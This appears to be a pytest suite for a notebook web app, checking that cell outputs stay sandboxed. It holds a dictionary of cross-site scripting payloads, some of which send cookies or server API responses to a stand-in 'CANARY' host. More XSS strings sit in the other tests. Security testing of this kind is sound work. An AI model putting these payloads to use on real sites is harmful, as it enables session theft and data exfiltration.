"""Outputs that want out: none reaches the page, the token, the server or anybody else."""

from __future__ import annotations

import asyncio
import json

import pytest

from tests.support.browser import opened
from tests.support.server import until

pytestmark = pytest.mark.native

# Each wants to load CANARY, which counts; or to change what the page shows.
ATTACKS = {
    "a script that asks the server": "<script>fetch('/api/kernels').then(r => r.text()).then(t => fetch('CANARY/' + btoa(t)))</script>",
    "a script that tells somebody": "<script>new Image().src = 'CANARY/image'; navigator.sendBeacon('CANARY/beacon', 'x')</script>",
    "a script that reads the page": "<script>try { parent.document.title = 'owned' } catch { } try { top.document.cookie } catch { } "
    "try { localStorage.x = 1; fetch('CANARY/storage') } catch { }</script>",
    "a script that leads the page away": "<script>try { top.location = 'CANARY/top' } catch { } try { parent.location = 'CANARY/parent' } catch { }</script>",
    "a script that leads its frame away": "<script>location = 'CANARY/frame?' + document.cookie</script>",
    "a meta refresh": "<meta http-equiv=refresh content='0;url=CANARY/meta'>",
    "an iframe": "<iframe src='CANARY/iframe'></iframe><iframe srcdoc='<script>parent.parent.document.title=1</script>'></iframe>",
    "a form": "<form action='CANARY/form' method=post id=f><input name=a></form><script>f.submit()</script>",
    "an image that fails": "<img src=x onerror=\"fetch('CANARY/onerror')\">",
    "a style sheet": "<link rel=stylesheet href='CANARY/css'><style>@import 'CANARY/import'; body { background: url(CANARY/bg) }</style>",
    "an svg": "<svg onload=\"fetch('CANARY/svg')\"><script>fetch('CANARY/svgscript')</script><image href='CANARY/svgimage'/></svg>",
    "a window": "<script>try { open('CANARY/open') } catch { }</script>",
    "a worker": "<script>try { new Worker(URL.createObjectURL(new Blob([\"fetch('CANARY/worker')\"]))) } catch { }</script>",
    "a socket": "<script>try { new WebSocket('CANARY/socket'.replace('http', 'ws')) } catch { }</script>",
    "an object": "<object data='CANARY/object'></object><embed src='CANARY/embed'>",
    "a base": "<base href='CANARY/'><img src='base.png'>",
    "a flood of messages": "<script>for (let n = 0; n < 2000; n++) parent.postMessage({height: 1e9, link: 'javascript:alert(1)'}, '*')</script>",
}


@pytest.fixture
async def canary():
    """Somebody else's server, which counts who comes."""
    paths: list[str] = []

    async def answer(reader, writer):
        paths.append((await reader.readline()).decode("latin-1"))
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    yield f"http://127.0.0.1:{port}", paths
    server.close()


async def test_nothing_that_an_output_does_reaches_anybody(notebook, canary, server):
    address, paths = canary
    page = notebook.page
    title = await page.title()
    pages = len(page.context.pages)
    before = server.log().count("GET /api/kernels")
    for name, attack in ATTACKS.items():
        html = attack.replace("CANARY", address)
        for mime in ("text/html", "text/markdown"):
            code = f"from IPython.display import display\ndisplay({json.dumps({mime: html})}, raw=True)  # {name}"
            await notebook.finished(await notebook.run(code))
    cell = await notebook.finished(await notebook.run("from IPython.display import HTML\nHTML('<b id=last>shown</b>')"))
    await notebook.frame(cell).locator("#last").wait_for()
    svg = json.dumps(
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{address}/x')\"><image href='{address}/y'/></svg>"
    )
    cell = await notebook.finished(
        await notebook.run(
            f"from IPython.display import SVG, Javascript\ndisplay(SVG({svg}), Javascript('fetch(\"{address}/js\")'))"
        )
    )
    await cell.locator("img.picture").wait_for(state="attached")
    text = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
    cell = await notebook.finished(
        await notebook.run(f"import sys\nprint({json.dumps(text)}); print({json.dumps(text)}, file=sys.stderr)")
    )
    assert text in await notebook.text(cell)
    await page.wait_for_timeout(500)  # what was on its way would have come; a gift to the attackers
    assert paths == []
    assert await page.title() == title and page.url.startswith(server.url)
    assert len(page.context.pages) == pages
    assert server.log().count("GET /api/kernels") == before
    heights = await page.locator("iframe.frame").evaluate_all("all => all.map(one => one.offsetHeight)")
    assert max(heights) <= 2000
    assert await page.locator("a[href^='javascript']").count() == 0
    last = await notebook.finished(await notebook.run("'still here'"))
    assert await notebook.text(last) == "'still here'"


async def test_names_and_errors_of_a_kernel_are_text(notebook):
    code = "class X(Exception): pass\nX.__name__ = '<img src=x onerror=alert(1)>'\nraise X('<script>alert(2)</script>')"
    cell = await notebook.finished(await notebook.run(code))
    assert "<script>alert(2)</script>" in await notebook.text(cell)
    assert await cell.locator(".outputs img, .outputs script").count() == 0


async def test_a_link_is_shown_and_not_followed(notebook):
    cell = await notebook.finished(
        await notebook.run("from IPython.display import HTML\nHTML('<a href=\"https://example.org/x\">go</a>')")
    )
    await notebook.frame(cell).locator("a").click()
    link = cell.locator(".links a")
    await link.wait_for()
    assert await link.get_attribute("href") == "https://example.org/x"
    assert await link.get_attribute("rel") == "noopener noreferrer"
    assert len(notebook.page.context.pages) == 1


async def test_the_page_of_another_origin_cannot_frame_or_use_ours(server, canary):
    async with opened(server) as page:
        await page.locator(".cell").first.wait_for()
        seen = []
        page.on("console", lambda message: seen.append(message.text))
        await page.goto(f"{server.url}/static/frame.html")
        assert await page.evaluate("self.origin") == "null"
        answer = await page.evaluate(
            "fetch('/api/kernels', {credentials: 'include'}).then(r => r.status, e => String(e))"
        )
        assert "TypeError" in str(answer)
        await until(lambda: any("connect-src" in line or "default-src" in line for line in seen))
